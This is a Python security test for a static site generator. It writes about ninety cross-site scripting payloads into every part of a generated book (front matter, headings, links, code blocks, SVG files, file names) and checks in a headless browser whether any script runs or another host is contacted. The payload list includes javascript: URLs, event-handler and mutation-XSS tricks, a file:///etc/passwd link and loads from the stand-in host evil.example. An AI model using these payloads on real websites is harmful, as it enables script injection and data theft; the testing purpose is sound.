"""Builds the site of a book that attacks its readers, and looks whether anything of it runs: check-hostile.py ARCHBOOK.

Every string stands in every place where a book can hold one: titles, headings, texts, links, images, code, tables, front
matter, records, questions, diagrams, file names and drawings. It is wrong when a dialog opens, when a script sets its mark,
when a page asks another host for something, or when the console tells that the pages' policy had to step in: then markup
came through that should not have.
"""

import pathlib
import shutil
import subprocess
import sys
import tempfile

from playwright.sync_api import sync_playwright

RUN = "window.pwned=1;alert(1)"
ATTACKS = [
    f"<script>{RUN}</script>", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//evil.example/x.js></script>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"\"><img src=x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", f"<form action=javascript:{RUN}><button>x",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import '//evil.example/x'</style>",
    "<style>*{background:url(//evil.example/x)}</style>", f"<a href=javascript:{RUN}>x</a>", f"<a href=' javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})", f"[x](java\tscript:{RUN})", f"[x](vbscript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](file:///etc/passwd)", f"![x](javascript:{RUN})", f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", f"![\" onerror=\"{RUN}](x.png)",
    f"[x](x \"\\\" onmouseover=\\\"{RUN}\")", f"<javascript:{RUN}>", f"[x]: javascript:{RUN}\n\n[x]",
    f"\" onmouseover=\"{RUN}\" x=\"", f"' onfocus='{RUN}' autofocus='", f"` onclick={RUN} `", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", "{{{main}}}{{#rooms}}x{{/rooms}}", f"${{{RUN}}}", f"\\u003cscript\\u003e{RUN}",
    f"archbookShard(\"x\",{RUN})", f"\");{RUN};(\"", f"*/{RUN}/*", f"\u2028{RUN}\u2029", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"𝕁avascript:{RUN}", f"<a\u00a0href=javascript:{RUN}>x", f"<details open ontoggle={RUN}><summary onclick={RUN}>x", f"<a href=\"java&#115;cript:{RUN}\" id=page.text>x</a>",
    f"<a href=javascript&colon;{RUN}>x</a>", f"<img src=p1.svg onload={RUN} style=x srcset='//evil.example/x 2x'>",
    f"<table><script>{RUN}</script><td background=//evil.example/x>x</table>", f"<p title='\" onclick={RUN} x=\"'>x",
    f"</div></main></body><b onmouseover={RUN}>x", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<a href=x style=x>a<a href=y onclick={RUN}>b", f"<kbd lang='\"><script>{RUN}</script>'>x", f"<ol start='1\" onclick=\"{RUN}'><li>x",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
]


def oneline(text):
    return " ".join(text.split())


def quoted(text):
    return oneline(text).replace("\\", "\\\\").replace('"', '\\"')


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def hostile_book(root):
    for number, attack in enumerate(ATTACKS, 1):
        line = oneline(attack)
        write(root / f"knowledge/patterns/p{number}.md", f"""---
title: '{line.replace("'", "''")}'
aliases: ['{line.replace("'", "''")}']
tags: ['{line.replace("'", "''")}', shared]
---
# {line}

{attack}

## {line}

- {line}
- [{line}]({line})
- ![{line}](p{number}.svg)
- `{line}` **{line}** _{line}_ ~~{line}~~ [^1]

| {line.replace("|", "")} | b |
|---|---|
| {line.replace("|", "")} | {line.replace("|", "")} |

> {attack}

```{line.replace("`", "")}
{attack}
```

```python
{attack}
```

```c4
{line.replace("->", "")} -> B{number}: {line}
```

```c4
a = softwareSystem "{quoted(attack)}" "{quoted(attack)}" "{quoted(attack)}" {{
    url "{quoted(attack)}"
}}
b = person "{quoted(attack)}"
b -> a "{quoted(attack)}" "{quoted(attack)}"
```

[^1]: {line}
""")
        write(root / f"knowledge/patterns/p{number}.svg", f"<svg xmlns='http://www.w3.org/2000/svg'><text>x</text>{attack}</svg>")
        write(root / f"adr/{number:04}-attack.md", f"""# {number}. {line}

Date: 2026-01-02

## Status

Accepted
{line}

## Context

{attack}
""")
    links = "\n".join(f"- [{oneline(a)}]({oneline(a)}) - {oneline(a)}\n- https://example.org/{n} {oneline(a)}"
                      for n, a in enumerate(ATTACKS))
    write(root / "knowledge/links/links.md", f"# {oneline(ATTACKS[1])}\n\n## {oneline(ATTACKS[3])}\n\n{links}\n")
    questions = "\n".join(f"### Question {n}: {oneline(a)} (10 points)\n\n{a}\n" for n, a in enumerate(ATTACKS, 1))
    write(root / "knowledge/reviews/week-01.md", f"# Week 1: {oneline(ATTACKS[0])}\n\n{questions}\n")
    name = "<img src=x onerror=alert(1)>.md"
    write(root / "knowledge/notes" / name, f"# Note\n\n{ATTACKS[0]}\n")
    write(root / "archbook.yml", "title: '</title><script>window.pwned=1;alert(1)</script>'\n")


def main():
    faults = []
    with tempfile.TemporaryDirectory() as folder:
        root = pathlib.Path(folder) / "book"
        site = pathlib.Path(folder) / "site"
        hostile_book(root)
        command = [sys.argv[1], "site", "build", "--output", str(site), "--base-url", "https://example.org/book"]
        built = subprocess.run(command, cwd=root, capture_output=True)
        if built.returncode:
            sys.exit(f"the book could not be built: {built.stderr.decode()[-500:]}")
        browser_path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox"])
            page = browser.new_page()
            current = [""]
            tell = lambda text: faults.append(f"{current[0]}: {text}")
            page.on("dialog", lambda dialog: (tell(f"a dialog: {dialog.message}"), dialog.dismiss()))
            # The page for what is missing names the address of the site, which is not that of the disk.
            page.on("console", lambda message: current[0] == "404.html" or tell(f"console: {message.text}"))
            page.on("pageerror", lambda error: tell(f"error: {error}"))
            page.on("request", lambda request: request.url.startswith(site.as_uri()) or tell(f"asks for {request.url}"))
            pages = sorted(path for path in site.rglob("*.html"))
            for path in pages:
                current[0] = path.relative_to(site).as_posix()
                page.goto(path.as_uri())
                page.evaluate("document.querySelectorAll('details').forEach((part) => { part.open = true; })")
                if page.evaluate("window.pwned"):
                    tell("a script ran")
            for drawing in sorted(site.rglob("*.svg")):
                current[0] = drawing.relative_to(site).as_posix()
                page.goto(drawing.as_uri())
                if page.evaluate("window.pwned"):
                    tell("a script ran")
            for attack in ["script", "alert", "onerror", ATTACKS[0]]:
                current[0] = f"search for {attack}"
                page.goto((site / "index.html").as_uri())
                page.keyboard.press("/")
                page.wait_for_selector("dialog[open] input:focus")
                page.keyboard.type(attack)
                page.wait_for_timeout(400)
                if page.evaluate("window.pwned"):
                    tell("a script ran")
            browser.close()
    for text in sorted(set(faults))[:40]:
        print(text)
    print(f"{len(ATTACKS)} attacks on {len(pages)} pages: {len(set(faults))} faults")
    return 1 if faults else 0


sys.exit(main())
